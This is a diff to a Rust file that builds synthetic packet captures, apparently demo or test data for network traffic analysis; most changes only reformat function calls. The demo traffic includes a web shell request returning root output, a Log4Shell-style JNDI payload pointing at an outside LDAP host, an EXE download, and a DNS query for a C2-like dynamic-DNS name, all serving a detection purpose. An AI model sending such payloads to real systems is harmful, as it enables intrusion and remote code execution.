@@ -71,31 +71,121 @@ impl Tcp {
     }
 
     pub fn handshake(&mut self, cap: &mut Capture) {
-        cap.push(build::tcp_v4(self.client, self.server, self.cport, self.sport, self.cseq, 0, f::SYN, b""));
+        cap.push(build::tcp_v4(
+            self.client,
+            self.server,
+            self.cport,
+            self.sport,
+            self.cseq,
+            0,
+            f::SYN,
+            b"",
+        ));
         self.cseq += 1;
-        cap.push(build::tcp_v4(self.server, self.client, self.sport, self.cport, self.sseq, self.cseq, f::SYN | f::ACK, b""));
+        cap.push(build::tcp_v4(
+            self.server,
+            self.client,
+            self.sport,
+            self.cport,
+            self.sseq,
+            self.cseq,
+            f::SYN | f::ACK,
+            b"",
+        ));
         self.sseq += 1;
-        cap.push(build::tcp_v4(self.client, self.server, self.cport, self.sport, self.cseq, self.sseq, f::ACK, b""));
+        cap.push(build::tcp_v4(
+            self.client,
+            self.server,
+            self.cport,
+            self.sport,
+            self.cseq,
+            self.sseq,
+            f::ACK,
+            b"",
+        ));
     }
 
     pub fn to_server(&mut self, cap: &mut Capture, data: &[u8]) {
-        cap.push(build::tcp_v4(self.client, self.server, self.cport, self.sport, self.cseq, self.sseq, f::PSH | f::ACK, data));
+        cap.push(build::tcp_v4(
+            self.client,
+            self.server,
+            self.cport,
+            self.sport,
+            self.cseq,
+            self.sseq,
+            f::PSH | f::ACK,
+            data,
+        ));
         self.cseq += data.len() as u32;
-        cap.push(build::tcp_v4(self.server, self.client, self.sport, self.cport, self.sseq, self.cseq, f::ACK, b""));
+        cap.push(build::tcp_v4(
+            self.server,
+            self.client,
+            self.sport,
+            self.cport,
+            self.sseq,
+            self.cseq,
+            f::ACK,
+            b"",
+        ));
     }
 
     pub fn to_client(&mut self, cap: &mut Capture, data: &[u8]) {
-        cap.push(build::tcp_v4(self.server, self.client, self.sport, self.cport, self.sseq, self.cseq, f::PSH | f::ACK, data));
+        cap.push(build::tcp_v4(
+            self.server,
+            self.client,
+            self.sport,
+            self.cport,
+            self.sseq,
+            self.cseq,
+            f::PSH | f::ACK,
+            data,
+        ));
         self.sseq += data.len() as u32;
-        cap.push(build::tcp_v4(self.client, self.server, self.cport, self.sport, self.cseq, self.sseq, f::ACK, b""));
+        cap.push(build::tcp_v4(
+            self.client,
+            self.server,
+            self.cport,
+            self.sport,
+            self.cseq,
+            self.sseq,
+            f::ACK,
+            b"",
+        ));
     }
 
     pub fn close(&mut self, cap: &mut Capture) {
-        cap.push(build::tcp_v4(self.client, self.server, self.cport, self.sport, self.cseq, self.sseq, f::FIN | f::ACK, b""));
+        cap.push(build::tcp_v4(
+            self.client,
+            self.server,
+            self.cport,
+            self.sport,
+            self.cseq,
+            self.sseq,
+            f::FIN | f::ACK,
+            b"",
+        ));
         self.cseq += 1;
-        cap.push(build::tcp_v4(self.server, self.client, self.sport, self.cport, self.sseq, self.cseq, f::FIN | f::ACK, b""));
+        cap.push(build::tcp_v4(
+            self.server,
+            self.client,
+            self.sport,
+            self.cport,
+            self.sseq,
+            self.cseq,
+            f::FIN | f::ACK,
+            b"",
+        ));
         self.sseq += 1;
-        cap.push(build::tcp_v4(self.client, self.server, self.cport, self.sport, self.cseq, self.sseq, f::ACK, b""));
+        cap.push(build::tcp_v4(
+            self.client,
+            self.server,
+            self.cport,
+            self.sport,
+            self.cseq,
+            self.sseq,
+            f::ACK,
+            b"",
+        ));
     }
 }
 
@@ -131,27 +221,56 @@ pub fn demo_capture() -> Capture {
     // A normal page load.
     let mut t = Tcp::new(ws, 49152, web, 80);
     t.handshake(&mut cap);
-    t.to_server(&mut cap, b"GET /index.html HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: Mozilla/5.0\r\n\r\n");
-    t.to_client(&mut cap, b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhello world\n");
+    t.to_server(
+        &mut cap,
+        b"GET /index.html HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
+    );
+    t.to_client(
+        &mut cap,
+        b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhello world\n",
+    );
     t.close(&mut cap);
 
     // A web shell answering `id` with root.
     let mut t = Tcp::new(ws, 49153, web, 8080);
     t.handshake(&mut cap);
-    t.to_server(&mut cap, b"GET /cgi-bin/shell.cgi?cmd=id HTTP/1.1\r\nHost: www.example.test\r\n\r\n");
-    t.to_client(&mut cap, b"HTTP/1.1 200 OK\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n");
+    t.to_server(
+        &mut cap,
+        b"GET /cgi-bin/shell.cgi?cmd=id HTTP/1.1\r\nHost: www.example.test\r\n\r\n",
+    );
+    t.to_client(
+        &mut cap,
+        b"HTTP/1.1 200 OK\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n",
+    );
     t.close(&mut cap);
 
     // A log4j-style probe, then an EXE download on the same connection.
     let mut t = Tcp::new(ws, 49154, web, 80);
     t.handshake(&mut cap);
-    t.to_server(&mut cap, b"GET /search?q=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: shop.example.test\r\n\r\n");
+    t.to_server(
+        &mut cap,
+        b"GET /search?q=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: shop.example.test\r\n\r\n",
+    );
     t.to_client(&mut cap, b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode");
     t.close(&mut cap);
 
     // DNS lookups, one for a dynamic-DNS name.
-    udp(&mut cap, ws, 53001, dns, 53, &dns_query(0x1234, "www.example.test"));
-    udp(&mut cap, ws, 53002, dns, 53, &dns_query(0x1235, "c2-box.duckdns.org"));
+    udp(
+        &mut cap,
+        ws,
+        53001,
+        dns,
+        53,
+        &dns_query(0x1234, "www.example.test"),
+    );
+    udp(
+        &mut cap,
+        ws,
+        53002,
+        dns,
+        53,
+        &dns_query(0x1235, "c2-box.duckdns.org"),
+    );
 
     // Pings, one with a large payload.
     ping(&mut cap, ws, web, 7, 1, b"abcdefghijklmnopqrstuvwabcdefghi");
